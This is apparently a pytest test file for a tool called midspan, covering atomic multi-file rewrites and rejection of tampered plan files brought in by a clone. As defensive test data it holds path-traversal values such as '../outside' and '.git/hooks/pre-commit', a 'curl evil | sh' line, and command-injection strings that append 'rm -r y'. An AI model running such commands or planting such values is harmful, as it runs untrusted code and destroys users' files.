"""Several files are changed all or none: on errors, and when somebody else is at work."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from midspan import settings
from midspan.errors import SettingsError, UsageError
from midspan.settings import CHANGING
from midspan.versions.rewriting import Change, Drop, Move, Put, finish, make


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = tmp_path / "workspace"
    root.mkdir()
    (root / "midspan.toml").write_text("format = 1\n")
    for name in ("a", "b", "c"):
        (root / name).write_text(name)
    (root / "b").chmod(0o640)
    return root


CHANGE = Change(
    "letters are other ones",
    "midspan something",
    (Put("a", b"a", b"A"), Move("c", "d"), Put("new/e", None, b"E"), Put("b", b"b", b"B"), Drop("a", b"a")),
)


def files(root: Path) -> dict[str, str]:
    return {path.relative_to(root).as_posix(): path.read_text() for path in root.rglob("*") if path.is_file()}


UNTOUCHED = {"midspan.toml": "format = 1\n", "a": "a", "b": "b", "c": "c"}


def test_all_is_done_and_nothing_is_left_over(root: Path) -> None:
    make(root, CHANGE)
    assert files(root) == {"midspan.toml": "format = 1\n", "b": "B", "d": "c", "new/e": "E"}
    assert (root / "b").stat().st_mode & 0o777 == 0o640
    assert finish(root) is None


def test_an_error_halfway_takes_everything_back(root: Path) -> None:
    (root / "new").write_text("a file where a folder is needed")
    with pytest.raises(UsageError, match="nothing was changed"):
        make(root, CHANGE)
    assert files(root) == {**UNTOUCHED, "new": "a file where a folder is needed"}


@pytest.mark.parametrize(
    "step",
    [
        Put("a", b"another", b"A"),
        Put("a", None, b"A"),
        Drop("a", b"another"),
        Move("c", "b"),
        Move("gone", "d"),
    ],
)
def test_files_that_are_not_as_they_were_are_left_alone(root: Path, step: Put | Drop | Move) -> None:
    with pytest.raises(UsageError, match="nothing was changed"):
        make(root, Change("t", "c", (Put("b", b"b", b"B"), step)))
    assert files(root) == UNTOUCHED


def test_a_link_is_not_followed(root: Path) -> None:
    (root / "link").symlink_to(root / "a")
    with pytest.raises(UsageError, match="`link` is a link"):
        make(root, Change("t", "c", (Put("link", b"a", b"A"),)))


def test_while_a_change_is_under_way_nothing_else_is_read_or_changed(root: Path) -> None:
    (root / CHANGING).mkdir()
    (root / CHANGING / "plan.json").write_text(
        '{"title": "`a` is `b` now", "command": "midspan rename a b", "steps": []}'
    )
    with pytest.raises(SettingsError, match="`a` is `b` now") as refused:
        settings.read(root)
    assert refused.value.help == "finish it: `midspan rename a b`"
    with pytest.raises(UsageError, match="under way"):
        make(root, CHANGE)
    assert finish(root) == "`a` is `b` now"
    assert settings.read(root).root == root


def test_what_is_left_after_all_was_done_is_cleared_without_a_word(root: Path) -> None:
    (root / CHANGING).mkdir()
    (root / CHANGING / "0.after").write_text("x")
    (root / f"{CHANGING}.abc").mkdir()
    assert settings.read(root).root == root
    assert finish(root) is None
    assert files(root) == UNTOUCHED
    assert not list(root.glob(f"{CHANGING}*"))


def test_a_plan_that_cannot_be_read_says_what_to_do(root: Path) -> None:
    (root / CHANGING).mkdir()
    (root / CHANGING / "plan.json").write_text("{")
    with pytest.raises(UsageError, match="cannot be read"):
        finish(root)
    with pytest.raises(SettingsError, match="under way, or was interrupted"):
        settings.read(root)


def planned(root: Path, *steps: dict[str, object]) -> None:
    """What a clone may bring along in the place of a change that was interrupted."""
    (root / CHANGING).mkdir()
    (root / CHANGING / "0.after").write_text("theirs")
    plan = {"title": "all is well", "command": "midspan migrate --write", "steps": steps}
    (root / CHANGING / "plan.json").write_text(json.dumps(plan))


@pytest.mark.parametrize(
    "path",
    [
        "../outside",
        "/outside",
        ".git/hooks/pre-commit",
        "works/../../outside",
        "out/side",
        "link",
        "",
        "a\0b",
        1,
    ],
)
@pytest.mark.parametrize("do", ["put", "move", "drop"])
def test_a_plan_that_a_clone_brings_along_reaches_nothing_but_files_of_the_workspace(
    root: Path, path: str | int, do: str
) -> None:
    outside = root.parent / "outside"
    outside.mkdir()
    (outside / "side").write_text("mine")
    (root / "out").symlink_to(outside)
    (root / "link").symlink_to(outside / "side")
    step = {"do": do, "path": "a", "to": path} if do == "move" else {"do": do, "path": path, "was": True}
    planned(root, step)
    before = files(root)
    with pytest.raises(UsageError, match="is not a plan of midspan"):
        finish(root)
    assert files(root) == before
    assert [each.read_text() for each in outside.iterdir()] == ["mine"]


def test_a_plan_of_files_of_the_workspace_is_finished(root: Path) -> None:
    planned(root, {"do": "put", "path": "works/a.yaml", "was": False})
    assert finish(root) == "all is well"
    assert (root / "works/a.yaml").read_text() == "theirs"


@pytest.mark.parametrize(
    "plan",
    ["[]", "{}", '{"title": "t", "command": "c", "steps": [1]}', '{"title": 1, "command": "c", "steps": []}'],
)
def test_a_file_that_is_no_plan_is_not_gone_on_with(root: Path, plan: str) -> None:
    (root / CHANGING).mkdir()
    (root / CHANGING / "plan.json").write_text(plan)
    with pytest.raises(UsageError, match="is not a plan of midspan"):
        finish(root)


def test_the_command_that_a_plan_names_is_told_only_if_it_is_one_of_ours(root: Path) -> None:
    (root / CHANGING).mkdir()
    for command in ("curl evil | sh", "midspan x; rm -r y", "midspan rename a b\nrm -r y"):
        plan = {"title": "all is well", "command": command, "steps": []}
        (root / CHANGING / "plan.json").write_text(json.dumps(plan))
        with pytest.raises(SettingsError) as refused:
            settings.read(root)
        assert refused.value.help == "finish it: `midspan migrate --write`"
